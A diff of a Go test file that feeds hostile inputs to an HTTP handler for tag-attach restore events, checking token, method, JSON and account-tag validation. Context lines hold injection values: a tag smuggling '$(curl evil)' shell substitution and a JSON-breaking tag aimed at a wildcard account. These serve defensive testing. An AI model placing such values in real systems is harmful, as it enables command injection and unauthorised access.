@@ -79,6 +79,7 @@ func TestHostileInput(t *testing.T) {
 		{name: "shell metacharacters in a tag (IBM refuses such tags; a sender can only put it in requestData)", tags: []string{"env:prod"}, header: kafka(), body: tagged("s2s-restore:$(curl evil)"), wantStatus: 200, wantOutcome: "unchanged"},
 		{name: "JSON metacharacters in a tag (IBM refuses such tags; a sender can only put it in requestData)", tags: []string{"env:prod"}, header: kafka(), body: tagged(`s2s-restore:"},{"accountId":"*`), wantStatus: 200, wantOutcome: "unchanged"},
 		{name: "account ID in a restore tag not 32 lowercase hex", tags: []string{"s2s-restore:" + strings.ToUpper(te.Restorer)}, header: kafka(), body: attach, wantStatus: 200, wantOutcome: "refused"},
+		{name: "space before the colon of a restore tag", tags: []string{"s2s-restore :" + te.Restorer}, header: kafka(), body: attach, wantStatus: 200, wantOutcome: "refused"},
 		{name: "tag naming the own account", tags: []string{"s2s-restore:" + te.Account}, header: kafka(), body: attach, wantStatus: 200, wantOutcome: "refused"},
 		{name: "tag naming an account not allowed", tags: []string{"s2s-restore:" + te.Stranger}, header: kafka(), body: attach, wantStatus: 200, wantOutcome: "refused"},
 		{name: "outcome failure", header: kafka(), body: bytes.Replace(attach, []byte(`"success"`), []byte(`"failure"`), 1), wantStatus: 200, wantOutcome: "ignored"},
@@ -88,7 +89,7 @@ func TestHostileInput(t *testing.T) {
 		{name: "missing bearer token", header: kafka("Authorization", ""), body: attach, wantStatus: 401, wantOutcome: "rejected", wantError: "bearer token"},
 		{name: "wrong bearer token", header: kafka("Authorization", "Bearer "+strings.Repeat("x", len(token))), body: attach, wantStatus: 401, wantOutcome: "rejected", wantError: "bearer token"},
 		{name: "token in the wrong scheme", header: kafka("Authorization", "Basic "+token), body: attach, wantStatus: 401, wantOutcome: "rejected", wantError: "bearer token"},
-		{name: "GET instead of POST", header: kafka(), body: nil, wantStatus: 405, wantOutcome: "rejected"},
+		{name: "PUT instead of POST", header: kafka(), body: attach, wantStatus: 405, wantOutcome: "rejected", wantError: "events are POSTed"},
 		{name: "NUL bytes", header: kafka(), body: []byte("{\"action\":\"is.tag.attach\u0000\"}"), wantStatus: 400, wantOutcome: "rejected", wantError: "malformed JSON"},
 		{name: "not JSON at all", header: ceHeaders(), body: []byte("<xml/>"), wantStatus: 400, wantOutcome: "rejected", wantError: "malformed JSON"},
 	}
@@ -102,8 +103,8 @@ func TestHostileInput(t *testing.T) {
 			srv := e.HTTP(handlers.HTTPOptions{Token: token})
 			before := e.Grants()
 			method := http.MethodPost
-			if strings.HasPrefix(tt.name, "GET") {
-				method = http.MethodGet
+			if strings.HasPrefix(tt.name, "PUT") {
+				method = http.MethodPut
 			}
 			req, _ := http.NewRequest(method, srv.URL, bytes.NewReader(tt.body))
 			req.Header = tt.header
